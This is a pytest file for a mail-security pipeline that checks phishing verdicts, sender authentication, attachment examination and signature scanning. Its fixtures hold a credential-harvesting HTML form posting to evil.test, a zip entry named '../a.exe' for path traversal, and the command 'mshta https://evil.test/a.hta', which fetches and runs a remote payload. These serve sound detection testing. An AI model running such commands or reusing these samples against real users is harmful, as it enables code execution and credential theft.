import base64
from dataclasses import replace

import pytest

import hostile_files as make
from bartizan.base.clock import SystemClock
from bartizan.forensics.signatures.rules import load_rules
from bartizan.forensics.unpacking import examine
from bartizan.mail.authentication.dns.resolver import OfflineResolver
from bartizan.mail.authentication.results import (
    ArcResult,
    Authentication,
    DmarcResult,
    Result,
    SpfResult,
)
from bartizan.mail.errors import ScannerError
from bartizan.mail.evidence import History, Listed, Listing, Organisation
from bartizan.mail.pipeline import NoBook, Pipeline, Recalled, Signatures
from bartizan.mail.policies import PolicySettings, Thresholds
from bartizan.mail.verdict import Disposition, Envelope

ENVELOPE = Envelope(
    mail_from="eve@evil.test", recipients=("reader@example.com",), remote_address="192.0.2.1",
    helo="mx.evil.test",
)  # fmt: skip
PHISH = (
    b"From: IT <it@examp1e.com>\r\nSubject: Password\r\nContent-Type: text/html\r\n\r\n"
    b'<form action="https://evil.test/"><input type=password></form>\r\n'
)
HONEST = b"From: Ann <ann@b.test>\r\nTo: reader@example.com\r\nSubject: Hi\r\n\r\nHi\r\n"


@pytest.fixture
def pipeline():
    return Pipeline(Organisation(), PolicySettings(), None, SystemClock())


async def test_a_verdict_says_why_with_the_gravest_reason_first(pipeline):
    verdict = await pipeline.judge(PHISH, ENVELOPE)
    assert verdict.disposition is Disposition.HOLD
    assert [reason.id for reason in verdict.reasons][:2] == ["credential_form", "lookalike_domain"]
    assert verdict.score >= 95
    assert verdict.policy == "default"
    assert verdict.milliseconds > 0


async def test_the_recipients_domain_counts_as_ours(pipeline):
    stranger = ENVELOPE.model_copy(update={"recipients": ("reader@elsewhere.test",)})
    verdict = await pipeline.judge(PHISH, stranger)
    assert "lookalike_domain" not in {reason.id for reason in verdict.reasons}


async def test_defects_of_the_message_are_told(pipeline):
    verdict = await pipeline.judge(b"From: a@b.test\r\nSubject: a\0b\r\n\r\nHi\r\n", ENVELOPE)
    assert "nul-in-header" in {defect.code for defect in verdict.defects}


async def test_what_could_not_be_asked_is_never_a_pass():
    pipeline = Pipeline(Organisation(), PolicySettings(), OfflineResolver(), SystemClock())
    verdict = await pipeline.judge(PHISH, ENVELOPE)
    found = verdict.authentication
    assert "pass" not in {found.spf.result, found.dmarc.result, found.arc.result}


async def test_without_anybody_to_ask_nothing_is_claimed(pipeline):
    assert (await pipeline.judge(PHISH, ENVELOPE)).authentication is None


KNOWN = History(seen=20, released=2, watched_days=60)


class Book:
    """Says of everybody what it was told."""

    def __init__(self, *known, history=None):
        self.known = Recalled(history, tuple(known))

    async def recall(self, facts):
        return self.known


def remembering(book):
    return Pipeline(Organisation(), PolicySettings(), None, SystemClock(), book=book)


async def test_what_people_decided_of_a_sender_counts():
    bad = replace(KNOWN, confirmed_bad=4)
    found = await remembering(Book(history=bad)).judge(PHISH, ENVELOPE)
    assert "previously_confirmed" in {reason.id for reason in found.reasons}
    blocked = await remembering(Book(Listing(Listed.BLOCK, "examp1e.com"))).judge(PHISH, ENVELOPE)
    assert (blocked.disposition, blocked.policy) == (Disposition.REJECT, "deny:examp1e.com")


async def test_what_speaks_for_a_proved_sender_lowers_the_score_and_is_told():
    mild = b"From: IT <it@shop.test>\r\nReply-To: x@desk.test\r\nSubject: Hi\r\n\r\nHello\r\n"
    proved = Authentication(
        spf=SpfResult(result=Result.NONE, domain="shop.test", sentence="."),
        dkim=(),
        dmarc=DmarcResult(result=Result.PASS, domain="shop.test", sentence="."),
        arc=ArcResult(result=Result.NONE, sentence="."),
    )
    pipeline = remembering(Book(history=KNOWN))
    found = await pipeline.reconsider(mild, ENVELOPE, proved)
    assert {one.id for one in found.mitigations} == {"released_before", "seldom_malicious"}
    assert found.score < found.suspected
    forged = await pipeline.reconsider(mild, ENVELOPE, None)
    assert {one.id for one in forged.mitigations} == {"seldom_malicious"}
    assert found.score < forged.score < forged.suspected


async def test_a_message_can_be_reconsidered_without_a_detector_or_under_other_rules(pipeline):
    full = await pipeline.judge(PHISH, ENVELOPE)
    names = {reason.id for reason in full.reasons}
    bare = await pipeline.reconsider(PHISH, ENVELOPE, None, without=names)
    assert (bare.score, bare.reasons) == (0, ())
    never = PolicySettings(default=Thresholds(tag_at=101, hold_at=101))
    lax = await pipeline.reconsider(PHISH, ENVELOPE, None, policy=never)
    assert (lax.score, lax.disposition) == (full.score, Disposition.DELIVER)


async def test_messages_on_disk_have_no_history(pipeline):
    facts = pipeline.analyse(PHISH, None, None).facts
    assert facts.history is None
    assert (await NoBook().recall(facts)) == Recalled()


class Here:
    """Examines in this process."""

    def __init__(self):
        self.is_closed = False

    def examine(self, content, name, passwords, seconds):
        return examine(content, name, passwords=passwords)

    def close(self):
        self.is_closed = True


async def test_attachments_are_examined_and_their_defects_told():
    archive = base64.encodebytes(make.zip_of({"../a.exe": b"MZ"}))
    head = b"From: a@b.test\r\nContent-Type: application/zip; name=a.zip\r\n"
    raw = head + b"Content-Transfer-Encoding: base64\r\n\r\n" + archive
    here = Here()
    examining = Pipeline(Organisation(), PolicySettings(), None, SystemClock(), examiner=here)
    found = await examining.examine(raw, ENVELOPE)
    assert [one.type for one in found.facts.attachments[0].examination.files] == ["zip", "pe"]
    assert [(one.code, one.sentence) for one in found.verdict.defects] == [
        ("path-traversal", "a.zip/../a.exe: The name '../a.exe' climbs out of its folder.")
    ]
    examining.close()
    assert here.is_closed


async def test_a_message_with_an_envelope_was_received_now(pipeline):
    raw = b"From: a@b.test\r\nDate: Sat, 1 Jan 2000 10:00:00 +0000\r\n\r\nHi\r\n"
    analysis = await pipeline.examine(raw, ENVELOPE)
    assert analysis.facts.received_at is not None
    assert "date_far_off" in {reason.id for reason in analysis.verdict.reasons}
    assert pipeline.analyse(raw, None, None).facts.received_at is None


class Says:
    engine = "clamav"

    def __init__(self, *names: str, fails: bool = False):
        self.names, self.fails = names, fails

    async def scan(self, content: bytes) -> tuple[str, ...]:
        if self.fails:
            raise ScannerError("It is down.")
        return self.names


def with_scanner(scanner, *, rules=None) -> Pipeline:
    signatures = Signatures(rules, (scanner,), 1)
    return Pipeline(Organisation(), PolicySettings(), None, SystemClock(), signatures=signatures)


async def test_what_a_scanner_knows_holds_a_message():
    verdict = await with_scanner(Says("Win.Test.A-1")).judge(HONEST, ENVELOPE)
    assert verdict.disposition is Disposition.HOLD
    assert verdict.reasons[0].id == "signature_match"
    assert "Win.Test.A-1" in verdict.reasons[0].sentence


async def test_a_scanner_that_is_down_is_a_defect_and_holds_nothing():
    verdict = await with_scanner(Says(fails=True)).judge(HONEST, ENVELOPE)
    assert verdict.disposition is Disposition.DELIVER
    assert [defect.code for defect in verdict.defects] == ["scanner-unavailable"]


async def test_our_own_rules_are_matched_too():
    raw = HONEST.replace(b"Hi", b"mshta https://evil.test/a.hta")
    analysis = await with_scanner(Says(), rules=load_rules()).examine(raw, ENVELOPE)
    assert [one.name for one in analysis.facts.signatures] == ["mshta_chain"]
